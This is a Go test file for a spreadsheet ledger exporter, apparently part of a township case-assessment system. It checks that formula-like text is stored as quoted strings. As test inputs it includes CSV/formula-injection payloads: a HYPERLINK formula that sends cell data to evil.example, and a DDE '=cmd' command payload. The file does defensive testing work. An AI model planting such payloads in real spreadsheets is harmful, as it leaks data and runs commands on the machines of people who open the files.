package ledgerxlsx_test

import (
	"archive/zip"
	"bytes"
	"io"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/fangpin/fangpin/cases"
	"github.com/fangpin/fangpin/cases/ledgerxlsx"
)

// A text typed by a cadre or a department that begins like a formula stays text: the
// cell is a string, has no formula, reads back unchanged and carries the quote prefix,
// so that editing it in Excel does not turn it into a formula either.
func TestLedgerFormulaLikeTextsStayText(t *testing.T) {
	risky := []string{`=HYPERLINK("http://evil.example/?"&A1,"点击")`, "+86 138", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"}
	a := cases.Assessment{Month: "2026-11"}
	for i, r := range risky {
		a.Cases = append(a.Cases, cases.CaseFact{No: "YJ202611-000" + string(rune('1'+i)), Township: "城关镇", Village: r, HeadName: r,
			Reason: r, Result: cases.ResultExclude, DispatchedAt: time.Date(2026, 11, 5, 9, 0, 0, 0, cases.Shanghai),
			DueOn: cases.Date{Year: 2026, Month: 12, Day: 3}, Categories: []cases.Category{cases.Categories[0]}})
	}
	a.Cases = append(a.Cases, cases.CaseFact{No: "YJ202611-0009", Township: "城关镇", Village: "东关村", HeadName: "张三",
		DispatchedAt: time.Date(2026, 11, 5, 9, 0, 0, 0, cases.Shanghai), DueOn: cases.Date{Year: 2026, Month: 12, Day: 3}})
	a.Townships = append(a.Townships, cases.TownshipScore{Name: "=cmd|' /C calc'!A0"})
	var buf bytes.Buffer
	if err := ledgerxlsx.Write(&buf, cases.MonthLedger{Assessment: a}); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	quoted := func(sheet, cell string) bool {
		id, err := f.GetCellStyle(sheet, cell)
		if err != nil {
			t.Fatal(err)
		}
		xf := f.Styles.CellXfs.Xf[id]
		return xf.QuotePrefix != nil && *xf.QuotePrefix
	}
	check := func(sheet, cell, want string, wantQuoted bool) {
		t.Helper()
		got, _ := f.GetCellValue(sheet, cell)
		if got != want {
			t.Errorf("%s!%s reads %q, want %q", sheet, cell, got, want)
		}
		if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
			t.Errorf("%s!%s is the formula %q", sheet, cell, formula)
		}
		typ, _ := f.GetCellType(sheet, cell)
		if typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
			t.Errorf("%s!%s has type %v, want a string", sheet, cell, typ)
		}
		if q := quoted(sheet, cell); q != wantQuoted {
			t.Errorf("%s!%s (%q) quote prefix %v, want %v", sheet, cell, want, q, wantQuoted)
		}
	}
	for i, r := range risky {
		row := ledgerxlsx.TitleRows + 2 + i
		for _, name := range []string{"村", "户主", "未纳入理由"} {
			ref, _ := excelize.CoordinatesToCellName(col(name), row)
			check("台账", ref, r, true)
		}
	}
	headRef, _ := excelize.CoordinatesToCellName(col("户主"), ledgerxlsx.TitleRows+2+len(risky))
	check("台账", headRef, "张三", false)
	check("汇总", "A"+strconv.Itoa(ledgerxlsx.TitleRows+2), "=cmd|' /C calc'!A0", true)

	// The file itself says so: quotePrefix="1" in its cell formats.
	zr, err := zip.NewReader(bytes.NewReader(buf.Bytes()), int64(buf.Len()))
	if err != nil {
		t.Fatal(err)
	}
	for _, zf := range zr.File {
		if zf.Name == "xl/styles.xml" {
			rc, _ := zf.Open()
			b, _ := io.ReadAll(rc)
			rc.Close()
			if !strings.Contains(string(b), `quotePrefix="1"`) && !strings.Contains(string(b), `quotePrefix="true"`) {
				t.Errorf("styles.xml has no quote prefix")
			}
		}
	}
	for _, s := range []string{"=1", "+1", "-1", "@a", "\t1", "\r1"} {
		if !ledgerxlsx.FormulaLike(s) {
			t.Errorf("FormulaLike(%q) = false", s)
		}
	}
	for _, s := range []string{"", "张三", "1=1", " =1", "＝1"} {
		if ledgerxlsx.FormulaLike(s) {
			t.Errorf("FormulaLike(%q) = true", s)
		}
	}
}
